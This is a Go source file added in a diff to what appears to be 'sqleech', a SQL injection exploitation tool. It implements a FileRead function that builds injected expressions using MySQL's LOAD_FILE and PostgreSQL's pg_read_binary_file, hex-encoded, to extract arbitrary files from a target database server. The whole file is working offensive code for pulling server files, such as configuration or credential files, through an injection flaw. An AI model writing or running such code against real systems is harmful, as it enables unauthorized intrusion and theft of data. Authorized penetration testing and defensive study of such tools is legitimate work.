@@ -0,0 +1,60 @@
+package enum
+
+import (
+	"context"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"strings"
+
+	"github.com/0x6d61/sqleech/internal/dbms"
+)
+
+// ErrFileReadUnsupported is returned by FileRead for a DBMS it cannot read
+// files through.
+var ErrFileReadUnsupported = errors.New("enum: DBMS cannot read files")
+
+// ErrFileUnreadable is returned by FileRead when the DBMS reads nothing:
+// the file is missing, empty, or the DBMS user may not read it (MySQL's
+// LOAD_FILE needs the FILE privilege and a path under secure_file_priv).
+var ErrFileUnreadable = errors.New("enum: file is missing, empty or unreadable")
+
+// FileRead returns the contents of the file at path on the DBMS server,
+// read with MySQL's LOAD_FILE or PostgreSQL's pg_read_binary_file. The
+// contents are extracted hex-encoded, so binary files survive techniques
+// that read text.
+func (e *Enumerator) FileRead(ctx context.Context, path string) ([]byte, error) {
+	expr, ok := fileHexExpr(e.d, path)
+	if !ok {
+		return nil, fmt.Errorf("%w: %s", ErrFileReadUnsupported, e.d.Name())
+	}
+	v, err := e.value(ctx, expr)
+	if err != nil {
+		return nil, err
+	}
+	v = strings.TrimSpace(v)
+	if v == "" {
+		return nil, fmt.Errorf("%w: %s", ErrFileUnreadable, path)
+	}
+	b, err := hex.DecodeString(v)
+	if err != nil {
+		return nil, fmt.Errorf("enum: contents of %s: %w", path, err)
+	}
+	return b, nil
+}
+
+// fileHexExpr returns the hexadecimal digits of the file at path, and
+// whether d can read files. PostgreSQL reads the file as bytea, which
+// pg_read_file would reject as invalid text when it is binary.
+func fileHexExpr(d dbms.DBMS, path string) (string, bool) {
+	if !d.Capabilities().FileRead {
+		return "", false
+	}
+	switch dbms.Family(d.Name()) {
+	case "MySQL":
+		return "HEX(" + d.FileReadQuery(path) + ")", true
+	case "PostgreSQL":
+		return "encode(pg_read_binary_file(" + d.QuoteString(path) + "),'hex')", true
+	}
+	return "", false
+}